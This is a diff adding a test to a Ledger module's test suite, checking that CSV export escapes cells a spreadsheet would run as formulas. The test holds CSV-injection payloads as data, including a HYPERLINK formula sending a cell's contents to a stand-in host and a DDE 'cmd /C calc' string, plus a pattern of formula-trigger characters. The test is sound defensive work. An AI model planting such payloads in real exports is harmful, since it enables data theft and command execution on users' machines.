@@ -284,6 +284,26 @@ describe('Ledger', () => {
     expect(parse(ledger.toCsv(ledger.report({})), { columns: true })).toHaveLength(1);
   });
 
+  it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', () => {
+    const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+    for (const agentId of hostile) ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
+    const r = ledger.report({ period: 'all', groupBy: 'agent' });
+    // ids are trimmed when recorded; a cell starting with a tab or CR is escaped too
+    r.rows.push({ ...r.rows[0], group: '\tTAB' }, { ...r.rows[0], group: '\rCR' });
+    hostile.push('\tTAB', '\rCR');
+    const recs = parse(ledger.toCsv(r), { columns: true, relax_quotes: true }) as Record<string, string>[];
+    for (const agentId of hostile) {
+      const rec = recs.find((x) => x.group === `'${agentId}`);
+      expect(rec, `no escaped cell for ${JSON.stringify(agentId)}`).toBeDefined();
+      // figures stay numbers (a negative net is not text)
+      expect(Number(rec!.calls)).toBe(r.rows.find((x) => x.group === agentId)!.calls);
+    }
+    for (const rec of recs) expect(rec.group).not.toMatch(/^[=+\-@\t\r]/);
+    // a negative number is still written as a number, not escaped
+    const neg = recs.find((x) => Number(x.net_usd) < 0);
+    expect(neg?.net_usd).toMatch(/^-\d/);
+  });
+
   it('keeps every figure across a restart (close and reopen the database)', () => {
     const before = ledger.report({ period: 'month', groupBy: 'model' });
     const stats = ledger.backendStats();
